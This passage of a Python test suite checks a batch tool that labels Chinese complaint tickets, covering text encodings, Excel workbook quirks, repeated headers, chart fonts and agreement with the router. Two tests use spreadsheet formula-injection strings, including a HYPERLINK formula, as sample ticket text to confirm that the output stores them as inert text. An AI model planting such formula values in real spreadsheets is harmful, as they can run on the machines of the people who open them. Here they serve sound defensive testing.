        label([src], tiny_model_dir, tmp_path / "out.csv", columns=MAP, jobs=1)
    assert "but row 2 names '编号': delete the rows above it" in str(e.value)
    with pytest.raises(TicketFileError) as train_error:
        read_tickets([src], MAP)
    assert str(e.value) == str(train_error.value)


def test_an_over_long_title_is_a_row_error_as_in_the_http_api(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    limit = get_settings().max_title_chars
    src = write_csv(
        tmp_path / "titles.csv",
        [
            ["T1", "路" * (limit + 1), "路灯坏了很久没人修"],
            ["T2", "路" * limit, "路灯坏了很久没人修"],
        ],
    )
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert list(df["id"]) == ["T1", "T2"]
    assert df["error"][0] == (
        f"title too long: {limit + 1:,} characters, over the limit of {limit:,} "
        "(PAIDAN_MAX_TITLE_CHARS) (line 2 of titles.csv)"
    )
    assert df["pred_department"][0] == "" and df["error"][1] == ""
    assert result.summary["errors_by_kind"] == {"title too long": 1}


def test_a_header_repeated_inside_a_joined_csv_comes_back_as_an_error_row(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Labelled as a ticket whose text is 诉求内容 and counted among the departments.
    from tests.training.test_tickets import joined_with_copy

    src = joined_with_copy(tmp_path / "一季度.csv")
    columns = ColumnMap(id="工单编号", title="标题", text="诉求内容", department="处理部门")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", columns=columns, jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["工单编号"].tolist() == ["A1", "A2", "\ufeff工单编号", "B1"]  # as read
    assert df["error"][2] == (
        "repeated header: line 4 of 一季度.csv repeats the header line (files joined with "
        "`copy a.csv+b.csv` or `cat` keep each part's header); it is not a ticket"
    )
    assert df["pred_department"][2] == "" and (df["error"][[0, 1, 3]] == "").all()
    assert result.summary["errors_by_kind"] == {"repeated header": 1}


@pytest.mark.parametrize("end", [b"\r\n\x1a", b"\x1a"])
def test_the_ctrl_z_that_copy_appends_is_no_row(
    tiny_model_dir: Path, tmp_path: Path, end: bytes
) -> None:
    # cmd's `copy a.csv+b.csv` ends the file with Ctrl-Z: it came back as a row with the error
    # "it has 1 fields", or was copied into the last ticket's department.
    from tests.training.test_tickets import joined_with_copy

    src = joined_with_copy(tmp_path / "一季度.csv")
    src.write_bytes(src.read_bytes().removesuffix(b"\r\n") + end)
    columns = ColumnMap(id="工单编号", title="标题", text="诉求内容", department="处理部门")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", columns=columns, jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["工单编号"].tolist() == ["A1", "A2", "\ufeff工单编号", "B1"]
    assert df["处理部门"].tolist()[-1] == "执法局"
    assert result.summary["errors_by_kind"] == {"repeated header": 1}


@pytest.mark.parametrize("end", [b"\r\n\x1a", b"\x1a"])
def test_the_ctrl_z_that_copy_appends_to_json_lines_is_no_row(
    tiny_model_dir: Path, tmp_path: Path, end: bytes
) -> None:
    # As for CSV: the mark came back as a row with the error "malformed JSON: line 3 …".
    from tests.training.test_tickets import joined_jsonl_with_copy

    src = joined_jsonl_with_copy(tmp_path / "一季度.jsonl", end)
    columns = ColumnMap(id="工单编号", text="诉求内容", department="处理部门")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", columns=columns, jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["工单编号"].tolist() == ["A1", "B1"]
    assert df["处理部门"].tolist() == ["人社局", "执法局"]
    assert result.summary["errors_by_kind"] == {}


def test_a_quoted_header_repeated_after_a_bom_comes_back_as_an_error_row(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Its cells read "工单编号" with the quotes, and the line was labelled as a ticket.
    from tests.training.test_tickets import joined_quoted

    src = joined_quoted(tmp_path / "一季度.csv")
    columns = ColumnMap(id="工单编号", title="标题", text="诉求内容", department="处理部门")
    result = label([src], tiny_model_dir, tmp_path / "out.csv", columns=columns, jobs=1)
    df = read_output(tmp_path / "out.csv")

    assert df["error"][1].startswith("repeated header: line 3 of 一季度.csv repeats the header")
    assert df["pred_department"][1] == "" and (df["error"][[0, 2]] == "").all()
    assert result.summary["errors_by_kind"] == {"repeated header": 1}


def test_gb18030s_byte_order_mark_is_not_written_into_the_output_header(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    from tests.training.test_tickets import gb18030_with_bom

    label([gb18030_with_bom(tmp_path / "gb.csv")], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df.columns[:3]) == ["id", "title", "text"] and df["id"].tolist() == ["G1"]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_excels_escaped_carriage_returns_are_written_as_the_cell_shows_them(
    tiny_model_dir: Path, tmp_path: Path, suffix: str
) -> None:
    # The output held "…一周_x000D_\n晚上…", Excel's escape, where the cell shows a line break.
    from model.tickets import read_tickets
    from tests.training.test_tickets import excel_line_ends

    src = excel_line_ends(tmp_path / "crlf.xlsx")
    label([src], tiny_model_dir, tmp_path / f"out{suffix}", jobs=1)
    df = read_output(tmp_path / f"out{suffix}")

    assert df["text"].tolist() == read_tickets([src])["text"].tolist()
    assert df["text"][0] == "小区门口路灯坏了一周\r\n晚上出行很不方便"
    assert df["title"][0] == "路灯\r\n坏了"


def test_without_a_cjk_font_the_department_chart_is_keyed_in_the_summary(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The chart numbered its bars 0..N and no file said which department each number was.
    from training import plots

    monkeypatch.setattr(plots, "cjk_font", lambda: None)
    src = write_csv(tmp_path / "in.csv", ticket_rows(12))
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    departments = list(result.summary["departments"])
    assert result.summary["department_chart_key"] == {str(i): d for i, d in enumerate(departments)}
    saved = json.loads((tmp_path / "out.csv.summary.json").read_text(encoding="utf-8"))
    assert saved["department_chart_key"] == result.summary["department_chart_key"]
    assert any(
        "out.csv.departments.png numbers its bars; out.csv.summary.json keys them" in w
        for w in result.warnings
    )
    monkeypatch.setattr(plots, "cjk_font", lambda: "Noto Sans CJK SC")
    result = label([src], tiny_model_dir, tmp_path / "named.csv", jobs=1)
    assert "department_chart_key" not in result.summary and not result.warnings


def test_without_a_cjk_font_the_charts_note_fits_and_bar_0_is_at_the_top(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The note under the title named the output file (drawn as boxes when Chinese) and ran off
    # both edges of the image; within a tie of counts, bar 0 was not the top one.
    from matplotlib.figure import Figure

    from training import plots

    monkeypatch.setattr(plots, "cjk_font", lambda: None)
    figures: list[Figure] = []
    close = plots.plt.close
    monkeypatch.setattr(plots.plt, "close", lambda fig: (figures.append(fig), close(fig)))
    rows = [(f"T{i}", "诉求", text) for i, (_, _, text) in enumerate(ticket_rows(12))]
    result = label([write_csv(tmp_path / "in.csv", rows)], tiny_model_dir, tmp_path / "一季度.csv")
    fig = next(f for f in figures if f.axes[0].get_title().startswith("Tickets per"))
    ax = fig.axes[0]
    assert ax.get_title().isascii()
    fig.canvas.draw()
    box = ax.title.get_window_extent()
    assert box.x0 >= 0 and box.x1 <= fig.bbox.width
    bars = [t.get_text() for t in ax.get_yticklabels()][::-1]  # from the top
    assert bars == [str(i) for i in range(len(result.summary["departments"]))]


def test_a_cjk_font_installed_after_matplotlib_cached_its_font_list_is_found(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # matplotlib never rescans its cached list: a font installed later was never used.
    from pathlib import Path as P

    from matplotlib import font_manager

    from training import plots

    on_disk = [f for f in font_manager.findSystemFonts() if plots._CJK_FONT_FILES.search(P(f).name)]
    if not on_disk:
        pytest.skip("no CJK font is installed on this machine")
    # The list as cached before the font files were installed: none of their faces.
    stale = [f for f in font_manager.fontManager.ttflist if f.fname not in on_disk]
    monkeypatch.setattr(font_manager.fontManager, "ttflist", stale)
    monkeypatch.setattr(plots, "_rescanned", False, raising=False)
    assert plots.cjk_font() is not None


@pytest.mark.parametrize(
    "fname, family",
    [
        ("/usr/share/fonts/truetype/droid/DroidSansFallbackFull.ttf", "Droid Sans Fallback"),
        ("/usr/share/fonts/truetype/arphic/ukai.ttc", "AR PL UKai CN"),
        ("/usr/share/fonts/opentype/noto/NotoSerifCJK-Regular.ttc", "Noto Serif CJK SC"),
        ("C:/Windows/Fonts/simsun.ttc", "SimSun"),
        ("/usr/share/fonts/wqy/wqy-custom.ttc", "文泉驿定制黑"),  # a family no list names
    ],
)
def test_a_cjk_font_the_rescan_finds_by_file_name_is_used(
    monkeypatch: pytest.MonkeyPatch, fname: str, family: str
) -> None:
    # The rescan added these by file name, then took only the families of a short list: the chart
    # was numbered with the warning "no font that draws Chinese was found … Install one".
    from matplotlib import font_manager

    from training import plots

    others = [
        f
        for f in font_manager.fontManager.ttflist
        if f.name not in plots._CJK_FONTS and not plots._CJK_FONT_FILES.search(f.fname)
    ]
    entry = font_manager.FontEntry(fname=fname, name=family)
    monkeypatch.setattr(font_manager.fontManager, "ttflist", [*others, entry])
    monkeypatch.setattr(plots, "_rescanned", True)
    assert plots.cjk_font() == family


def test_top3_and_decision_match_the_router(tiny_model_dir: Path, tmp_path: Path) -> None:
    from model.artifact import load_router

    src = write_csv(tmp_path / "in.csv", ticket_rows(18))
    label([src], tiny_model_dir, tmp_path / "out.jsonl", jobs=1)
    df = read_output(tmp_path / "out.jsonl")
    router, _ = load_router(tiny_model_dir)
    expected = router.predict([(t, x) for _, t, x in ticket_rows(18)], similar_k=0)
    for (_, row), want in zip(df.iterrows(), expected, strict=True):
        assert row["pred_department"] == want.department.label
        assert row["pred_category"] == want.category.label
        assert row["decision"] == want.decision
        top3 = json.loads(row["top3_departments"])
        assert [c["label"] for c in top3] == [c.label for c in want.department.candidates]
        assert top3[0]["score"] == row["pred_department_score"]


def _as_rows(results: list) -> list[tuple]:
    """What batch labelling wrote when it flattened Router.predict's results (before 2026-12-01),
    with the joint-dispatch advice (since 2026-12-03)."""
    return [
        (
            r.department.label if r.department else None,
            r.department.score if r.department else None,
            r.category.label if r.category else None,
            r.category.score if r.category else None,
            r.decision,
            json.dumps([c.model_dump() for c in r.department.candidates], ensure_ascii=False)
            if r.department
            else "[]",
            json.dumps([a.model_dump() for a in r.co_departments], ensure_ascii=False),
            # Why each head leaves the ticket to a person, as the API says it (since 2026-12-07).
            r.department.reason if r.department else None,
            r.category.reason if r.category else None,
        )
        for r in results
    ]


@pytest.mark.parametrize("threshold", [0.0, 0.3, 1.0])
@pytest.mark.parametrize("heads", [("department", "category"), ("category",)])
def test_batch_rows_are_exactly_the_routers_suggestions(
    tiny_model_dir: Path, threshold: float, heads: tuple[str, ...]
) -> None:
    # predict_rows reads the router's ranking arrays instead of its RouteResults; it must write
    # what Router.predict says, decisions included, for every threshold and with one head only.
    from model.artifact import load_router
    from training.label import predict_rows

    router, _ = load_router(tiny_model_dir)
    router.heads = {name: router.heads[name] for name in heads}
    for head in router.heads.values():
        head.threshold = threshold
    tickets = [(t, x) for _, t, x in ticket_rows(18)] + [("", "12345 67890"), ("标题", "电梯坏了")]
    got = predict_rows(router, tickets)
    assert got == _as_rows(router.predict(tickets, top_k=3, explain=False))
    decisions = [row[4] for row in got]
    if threshold == 0.0:  # everything passes but the ticket with no known word
        assert decisions.count("review") == 1 and decisions[-2] == "review"
    if threshold == 1.0:
        assert set(decisions) == {"review"}
    assert predict_rows(router, []) == []


def test_rows_without_a_word_the_model_knows_say_so_and_are_counted(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Punctuation, digits, a masked phone number or emoji alone came back as an ordinary
    # low-confidence review, the same as a ticket the model read and was unsure of.
    junk = ["。。。", "111", "138****1234", "\U0001f621\U0001f621", "！！？？"]
    rows = [[f"J{i}", "", text] for i, text in enumerate(junk)]
    rows.insert(2, ["K1", "电梯", "电梯坏了物业不管"])
    src = write_csv(tmp_path / "in.csv", rows)
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert len(df) == len(rows)  # every row comes back, labelled
    assert (df["pred_department"] != "").all() and (df["error"] == "").all()
    unread = df[df["id"] != "K1"]
    assert (unread["decision"] == "review").all()
    assert (unread["department_reason"] == "no_known_terms").all()
    assert (unread["category_reason"] == "no_known_terms").all()
    read = df[df["id"] == "K1"].iloc[0]
    assert read["department_reason"] != "no_known_terms"
    assert result.summary["no_known_terms"] == {"rows": len(junk), "first_row": 1}
    assert any("no word the model knows" in w and "row 1 of out.csv" in w for w in result.warnings)


def test_rows_of_placeholders_alone_are_no_known_terms_and_counted(
    placeholder_model_dir: Path, tmp_path: Path
) -> None:
    # A ticket saying only 见附件 or 如题 came back below_threshold: a low-confidence guess the
    # dispatcher took for a ticket the model read, not one that says nothing (read the attachment).
    rows = [
        ["A1", "", "见附件"],
        ["A2", "油烟扰民", "详见附件"],
        ["A3", "如题", "详见附件。"],
        ["A4", "", "見附件"],
        ["A5", "同上", "如题"],
    ]
    src = write_csv(tmp_path / "in.csv", rows)
    result = label([src], placeholder_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == [r[0] for r in rows] and (df["error"] == "").all()
    said_nothing = df[df["id"] != "A2"]
    assert (said_nothing["decision"] == "review").all()
    assert (said_nothing["department_reason"] == "no_known_terms").all()
    assert (said_nothing["category_reason"] == "no_known_terms").all()
    assert df[df["id"] == "A2"].iloc[0]["department_reason"] != "no_known_terms"
    assert result.summary["no_known_terms"] == {"rows": 4, "first_row": 1}
    assert any("见附件" in w and "row 1 of out.csv" in w for w in result.warnings)


def test_an_output_of_a_paidan_before_the_reason_columns_is_still_refused_as_one(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    old = ["pred_department", "pred_department_score", "pred_category", "pred_category_score"]
    old += ["decision", "top3_departments", "co_departments", "error"]
    src = tmp_path / "done.csv"
    src.write_text(",".join(["id", "title", "text", *old]) + "\n1,a,电梯坏了" + "," * 8 + "\n")
    with pytest.raises(LabelError, match="is paidan label's output"):
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)


def test_gb18030_input_is_decoded(tiny_model_dir: Path, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "gbk.csv", ticket_rows(6), encoding="gb18030")
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["text"]) == [r[2] for r in ticket_rows(6)]
    assert (df["error"] == "").all()


def test_big5_input_is_decoded_as_big5(tiny_model_dir: Path, tmp_path: Path) -> None:
    # Read as GB18030, every text came back as mojibake (路燈不亮 as 隔縊ぃ獹), without an error.
    from tests.training.test_tickets import BIG5_TICKETS

    src = tmp_path / "big5.csv"
    src.write_bytes(BIG5_TICKETS.encode("cp950"))
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["title"]) == ["路燈不亮", "噪音擾民"]
    assert (df["error"] == "").all()


def test_a_big5_input_with_a_hong_kong_character_past_its_first_megabyte_labels_it(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The row with 𠕇 (FA 40, Big5-HKSCS) was "unreadable: … is not valid CP950": the encoding
    # is told from the first megabyte, which had no Hong Kong character.
    from tests.training.test_tickets import big5_file_with_a_late_line

    src = tmp_path / "hk.csv"
    text = "屯門𠕇村路燈不亮，晚上很暗"
    big5_file_with_a_late_line(src, f"9,路燈,{text},市城管局\n".encode("big5hkscs"))
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["text"])[-2] == text
    assert (df["error"] == "").all()


def test_xlsx_ids_longer_than_excel_keeps_are_warned_of_by_label(
    tiny_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # Written back as 123456789012346000, the id joined back to no ticket, without a word.
    from tests.training.test_tickets import ROUNDED_ID_WARNING, rounded_id_workbook

    src = rounded_id_workbook(tmp_path / "export.xlsx")
    with caplog.at_level("WARNING", logger="model.tickets"):
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    said = [r.getMessage() for r in caplog.records if "Excel keeps" in r.getMessage()]
    assert said == [ROUNDED_ID_WARNING.format(path=src.name)]


def test_utf8_lines_in_a_gb18030_file_say_the_file_mixes_the_two(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Two exports joined, GB18030 then UTF-8: each UTF-8 line was "not valid GB18030" and no more,
    # though the fix is to convert one part before joining.
    gb = "id,title,text\nG1,路灯,路灯坏了一周没人修\nG2,油烟,烧烤店油烟扰民\n".encode("gb18030")
    utf8 = "U1,吵,楼上装修噪音太大影响休息\n".encode()  # a run of 3 bytes: not GB18030
    broken = b"B1,x," + bytes([0x81, 0x20]) + b"\n"  # undecodable in both
    src = tmp_path / "joined.csv"
    src.write_bytes(gb + utf8 + broken)
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == ["G1", "G2", "U1", "B1"] and (df["error"][:2] == "").all()
    assert df["error"][2] == (
        # 吵 is e5 90 b5 in UTF-8: e5 90 reads as a GB18030 character, b5 then cannot start one.
        "unreadable: line 4 of joined.csv is not valid GB18030 (undecodable bytes at byte offset "
        "69 of the file, b5 2c); it is UTF-8: "
        "the file mixes GB18030 and UTF-8 (two exports joined?): convert its GB18030 part to "
        "UTF-8 (iconv -f GB18030 -t UTF-8) before joining"
    )
    assert (
        df["error"][3]
        == "unreadable: line 5 of joined.csv is not valid GB18030 (undecodable bytes at byte "
        "offset 113 of the file, 81 20)"
    )


def test_gb18030_whose_first_megabyte_is_ascii_is_decoded(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # ASCII reads alike in UTF-8 and GB18030: the encoding is told by the first Chinese line,
    # not by the first megabyte, which took this file for UTF-8 and refused that line.
    ascii_rows = [[f"A{i}", "", f"plain complaint {i} " + "x" * 40] for i in range(20_000)]
    rows = [["id", "title", "text"], *ascii_rows, ["Z1", "油烟", "小区楼下烧烤油烟很大"]]
    src = tmp_path / "late.csv"
    with open(src, "w", encoding="gb18030", newline="") as f:
        csv.writer(f).writerows(rows)
    assert src.stat().st_size > 1 << 20
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert df["text"].iloc[-1] == "小区楼下烧烤油烟很大" and df["error"].iloc[-1] == ""


def test_label_refuses_a_utf16_export_as_train_does(tiny_model_dir: Path, tmp_path: Path) -> None:
    # label said "line 1: the header is not valid gb18030" where train said "byte 0 is invalid".
    path = tmp_path / "工单导出.txt"
    path.write_bytes("id\ttitle\ttext\r\nA1\t油烟\t小区楼下烧烤油烟很大\r\n".encode("utf-16"))
    with pytest.raises(TicketFileError, match=r"工单导出.txt: the file is UTF-16 text .*CSV UTF-8"):
        label(
            [path], tiny_model_dir, tmp_path / "out.csv", jobs=1, columns=ColumnMap(delimiter="\t")
        )
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_label_refuses_utf16_without_a_bom_as_with_one(
    tiny_model_dir: Path, tmp_path: Path, encoding: str
) -> None:
    # SQL Server's `bcp -w`: no BOM. The header was read as UTF-8 and refused naming columns
    # 'i\x00d\x00', '\x00t\x00i\x00t\x00l\x00e\x00', … as "the file has columns".
    path = tmp_path / "bcp.csv"
    path.write_bytes("id,title,text\r\nA1,油烟,小区楼下烧烤油烟很大\r\n".encode(encoding))
    with pytest.raises(TicketFileError, match=r"bcp.csv: the file is UTF-16 text .*CSV UTF-8"):
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_a_workbook_with_tickets_on_several_sheets_is_refused(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    rows = pd.DataFrame(ticket_rows(4), columns=["id", "title", "text"])
    path = tmp_path / "months.xlsx"
    with pd.ExcelWriter(path) as w:
        rows.to_excel(w, sheet_name="1月", index=False)
        rows.to_excel(w, sheet_name="2月", index=False)
    with pytest.raises(TicketFileError, match=r"'2月' \(the same columns\) look like more tickets"):
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_label_refuses_later_sheets_with_other_columns_as_train_does(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A month with the columns moved, or one holding the text column (--text-col 内容) beside
    # others, was labelled as nothing: label wrote the first sheet's rows alone.
    rows = pd.DataFrame(ticket_rows(4), columns=["编号", "标题", "内容"])
    path = tmp_path / "months.xlsx"
    with pd.ExcelWriter(path) as w:
        rows.to_excel(w, sheet_name="10月", index=False)
        rows[["内容", "编号", "标题"]].to_excel(w, sheet_name="11月", index=False)
        rows[["内容"]].assign(回访="满意").to_excel(w, sheet_name="12月", index=False)
        pd.DataFrame({"说明": ["导出说明"]}).to_excel(w, sheet_name="说明", index=False)
    cmap = ColumnMap(id="编号", title="标题", text="内容")
    with pytest.raises(TicketFileError) as e:
        label([path], tiny_model_dir, tmp_path / "out.csv", columns=cmap, jobs=1)
    msg = str(e.value)
    assert "'11月' (the same columns in another order)" in msg
    assert "'12月' (1 of the first sheet's 3 columns, the text column '内容' among them)" in msg
    assert "说明" not in msg
    assert not (tmp_path / "out.csv").exists()


def test_label_refuses_later_sheets_under_a_title_row(tiny_model_dir: Path, tmp_path: Path) -> None:
    # Monthly sheets each under a title row: label wrote the first month's rows alone.
    rows = pd.DataFrame(ticket_rows(4), columns=["id", "title", "text"])
    path = tmp_path / "months.xlsx"
    with pd.ExcelWriter(path) as w:
        rows.to_excel(w, sheet_name="1月", index=False)
        rows.to_excel(w, sheet_name="2月", index=False, startrow=2)
        w.sheets["2月"]["A1"] = "城南区12345工单明细"
    with pytest.raises(TicketFileError, match=r"'2月' \(its row 3 has the same columns\)"):
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_label_reads_a_workbook_with_a_field_dictionary_sheet(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A second sheet naming each column on a row of its own (text | 诉求内容) was refused as
    # tickets under a title row, and the workbook not labelled.
    rows = pd.DataFrame(ticket_rows(4), columns=["id", "title", "text"])
    path = tmp_path / "tickets.xlsx"
    with pd.ExcelWriter(path) as w:
        rows.to_excel(w, sheet_name="工单", index=False)
        fields = {"字段": ["id", "title", "text"], "含义": ["工单编号", "标题", "诉求内容"]}
        pd.DataFrame(fields).to_excel(w, sheet_name="字段说明", index=False)
    label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert len(pd.read_csv(tmp_path / "out.csv")) == 4


def test_a_hidden_empty_first_sheet_is_said_to_be_hidden(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The message named an empty sheet the user could not see in Excel.
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.sheet_state = "hidden"
    tickets = wb.create_sheet("工单")
    tickets.append(["id", "title", "text"])
    tickets.append(ticket_rows(1)[0])
    wb.active = 1
    path = tmp_path / "tickets.xlsx"
    wb.save(path)
    with pytest.raises(TicketFileError) as e:
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value).startswith(
        f"{path}: the first sheet, 'Sheet', which is hidden (Excel does not show it: right-click "
        "a sheet tab, Unhide / 取消隐藏), is empty (no header row)"
    )


def test_an_empty_first_sheet_names_the_sheets_that_hold_rows(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A blank Sheet1 left before the tickets' sheet was refused with "the first sheet is empty
    # (no header row)" alone: neither the sheet holding the tickets nor the way out was said.
    rows = pd.DataFrame(ticket_rows(4), columns=["编号", "标题", "内容"])
    path = tmp_path / "tickets.xlsx"
    with pd.ExcelWriter(path) as w:
        pd.DataFrame().to_excel(w, sheet_name="Sheet1", index=False)
        fields = {"字段": ["编号", "标题", "内容"], "含义": ["工单编号", "标题", "诉求内容"]}
        pd.DataFrame(fields).to_excel(w, sheet_name="字段说明", index=False)
        rows.to_excel(w, sheet_name="工单", index=False)
        pd.DataFrame().to_excel(w, sheet_name="空白", index=False)
    cmap = ColumnMap(id="编号", title="标题", text="内容")
    with pytest.raises(TicketFileError) as e:
        label([path], tiny_model_dir, tmp_path / "out.csv", columns=cmap, jobs=1)
    assert str(e.value) == (
        f"{path}: the first sheet, 'Sheet1', is empty (no header row), and only the first sheet "
        "of a workbook is read, but sheet '工单' has a column '内容': move that sheet first, or "
        "save it as a file of its own"
    )
    # Without a sheet whose header names the text column, every sheet that holds rows.
    with pytest.raises(TicketFileError) as e:
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value).endswith(
        "but sheets '字段说明', '工单' have rows: move the one holding the tickets first, or save "
        "it as a file of its own"
    )
    with pd.ExcelWriter(path) as w:
        pd.DataFrame().to_excel(w, sheet_name="Sheet1", index=False)
        pd.DataFrame().to_excel(w, sheet_name="Sheet2", index=False)
    with pytest.raises(TicketFileError) as e:
        label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value) == (
        f"{path}: the first sheet, 'Sheet1', is empty (no header row), and so is every other sheet"
    )
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.slow
def test_two_jobs_keep_input_order_and_bytes(tiny_model_dir: Path, tmp_path: Path) -> None:
    rows = ticket_rows(400)
    rows[37][2] = ""  # an error row in the middle of a chunk
    src = write_csv(tmp_path / "in.csv", rows)
    label([src], tiny_model_dir, tmp_path / "one.csv", jobs=1, chunk_size=23)
    result = label([src], tiny_model_dir, tmp_path / "two.csv", jobs=2, chunk_size=23)
    df = read_output(tmp_path / "two.csv")
    assert list(df["id"]) == [r[0] for r in rows]
    assert df["error"][37].startswith("empty text")
    assert result.summary["rows"] == 400 and result.summary["errors"] == 1
    assert (tmp_path / "two.csv").read_bytes() == (tmp_path / "one.csv").read_bytes()


def write_input(path: Path, df: pd.DataFrame) -> Path:
    if path.suffix == ".csv":
        df.to_csv(path, index=False)
    elif path.suffix == ".jsonl":
        df.to_json(path, orient="records", lines=True, force_ascii=False)
    elif path.suffix == ".parquet":
        df.to_parquet(path, index=False)
    else:
        df.to_excel(path, index=False)
    return path


@pytest.mark.parametrize(
    ("in_ext", "out_ext"),
    [
        # Each input format into CSV, and CSV into each output format.
        (".xlsx", ".csv"),
        (".jsonl", ".csv"),
        (".parquet", ".csv"),
        (".csv", ".csv"),
        (".csv", ".jsonl"),
        (".csv", ".parquet"),
        (".csv", ".xlsx"),
    ],
)
def test_every_format_in_and_out(
    tiny_model_dir: Path, tmp_path: Path, in_ext: str, out_ext: str
) -> None:
    rows = ticket_rows(7)
    rows[3][2] = "   "
    df_in = pd.DataFrame(rows, columns=["编号", "title", "内容"])
    df_in["extra"] = "x"
    src = write_input(tmp_path / f"in{in_ext}", df_in)
    out = tmp_path / f"out{out_ext}"
    result = label(
        [src], tiny_model_dir, out, ColumnMap(id="编号", text="内容"), jobs=1, chunk_size=3
    )
    df = read_output(out)
    assert list(df.columns) == ["编号", "title", "内容", "extra", *PRED_COLUMNS]
    assert list(df["编号"]) == [r[0] for r in rows]
    assert list(df["内容"]) == [r[2] for r in rows]
    assert df["error"][3].startswith("blank text")
    assert (df["error"].drop(index=3).fillna("") == "").all()
    assert df["pred_department"].drop(index=3).notna().all()
    assert result.summary["rows"] == 7 and result.summary["errors"] == 1


@pytest.mark.parametrize("escape", [True, False])
def test_csv_output_gives_back_every_text_exactly(
    tiny_model_dir: Path, tmp_path: Path, escape: bool
) -> None:
    # Quotes, the delimiter, line breaks, a leading formula sign, an empty title: the labelled CSV
    # (with a BOM for Excel) must give each of them back unchanged to a standard CSV reader, the
    # formula with the quote that keeps Excel from running it unless --no-escape-formulas.
    texts = [
        '他说"明天再修"，结果没人来',
        "电梯坏了,三天没修",
        "楼下烧烤店\r\n油烟很大",
        "=1+1 工资拖欠",
    ]
    rows = [[f"Q{i}", "" if i == 2 else "投诉", t] for i, t in enumerate(texts)]
    src = write_csv(tmp_path / "in.csv", rows)
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1, chunk_size=2, escape_formulas=escape)
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        back = list(csv.DictReader(f))
    assert [r["id"] for r in back] == ["Q0", "Q1", "Q2", "Q3"]
    assert [r["text"] for r in back] == [*texts[:3], ("'" if escape else "") + texts[3]]
    assert [r["title"] for r in back] == ["投诉", "投诉", "", "投诉"]
    assert all(r["error"] == "" and r["decision"] in ("auto", "review") for r in back)
    assert all(0 <= float(r["pred_department_score"]) <= 1 for r in back)


def test_xlsx_output_keeps_a_leading_equals_sign_as_text(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # openpyxl would store these as formulas, which Excel runs: a citizen's text must stay text.
    import openpyxl

    texts = ['=HYPERLINK("http://example.com","点我") 拖欠工资', "=1+1 油烟扰民"]
    src = write_csv(tmp_path / "in.csv", [["X1", "=SUM(A1)", texts[0]], ["X2", "投诉", texts[1]]])
    label([src], tiny_model_dir, tmp_path / "out.xlsx", jobs=1)
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    rows = list(sheet.iter_rows(min_row=2, max_col=3))
    assert [[c.value for c in r] for r in rows] == [
        ["X1", "=SUM(A1)", texts[0]],
        ["X2", "投诉", texts[1]],
    ]
    assert all(c.data_type == "s" for r in rows for c in r)


def test_xlsx_output_keeps_long_and_zero_padded_ids_as_text_cells(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
